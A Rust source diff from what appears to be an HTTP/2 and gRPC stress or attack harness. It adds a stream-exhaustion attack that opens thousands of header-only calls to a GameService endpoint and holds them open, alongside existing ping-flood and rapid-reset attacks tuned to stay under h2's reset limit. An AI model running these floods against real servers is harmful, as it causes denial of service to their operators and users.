@@ -15,8 +15,8 @@ use super::{
     AttackContext,
     floods::full_replay,
     frames::{self, Frames, kind},
-    held::framed,
     repeat::{Setback, keep_doing},
+    unread::framed,
 };
 
 /// Connections of each of these attacks.
@@ -26,6 +26,9 @@ const PINGS: usize = 512;
 /// How many calls are opened and reset before the server is asked whether it has seen them. Below the 20 that h2 lets be
 /// reset before they are accepted, so that it does not end the connection.
 const CALLS: u32 = 16;
+/// Connections on which calls are only opened, and how many on each.
+const HEAD_CONNECTIONS: usize = 200;
+const HEADS: usize = 3_000;
 /// The step from one call's stream to the next: clients have the odd numbers.
 const STEP: u32 = 2;
 /// The last stream number of which there are `CALLS` more.
@@ -44,6 +47,13 @@ pub fn pings(context: &AttackContext, tasks: &mut JoinSet<()>) {
 pub fn resets(context: &AttackContext, tasks: &mut JoinSet<()>) {
     for _ in 0..CONNECTIONS {
         keep_doing(tasks, context, async |context| connection(context, kind::HEADERS, open_and_reset).await);
+    }
+}
+
+/// Opens calls of which nothing else comes.
+pub fn heads(context: &AttackContext, tasks: &mut JoinSet<()>) {
+    for _ in 0..HEAD_CONNECTIONS {
+        keep_doing(tasks, context, async |context| connection(context, kind::HEADERS, open_only).await);
     }
 }
 
@@ -69,7 +79,7 @@ async fn ping(context: &AttackContext, mut socket: OwnedWriteHalf, _: &Notify) -
     loop {
         socket.write_all(&pings).await?;
         context.counts.begin(PINGS as u64);
-        // The socket may take it all at once for ever; the reader has its turn too.
+        // The socket may go on taking it all at once; the reader has its turn too.
         tokio::task::yield_now().await;
     }
 }
@@ -97,6 +107,19 @@ async fn open_and_reset(
         ping_answered.notified().await;
     }
     Ok(())
+}
+
+async fn open_only(context: &AttackContext, mut socket: OwnedWriteHalf, _: &Notify) -> Result<(), Setback> {
+    let headers = frames::grpc_headers(&context.address.to_string(), "/divelog.v1.GameService/GetGame");
+    let mut out = BytesMut::new();
+    for stream in (1..).step_by(STEP as usize).take(HEADS) {
+        out.clear();
+        frames::head(&mut out, stream, &headers);
+        socket.write_all(&out).await?;
+        context.counts.begin(1);
+    }
+    // Until the server ends it.
+    std::future::pending().await
 }
 
 /// Reads what comes, and counts it.
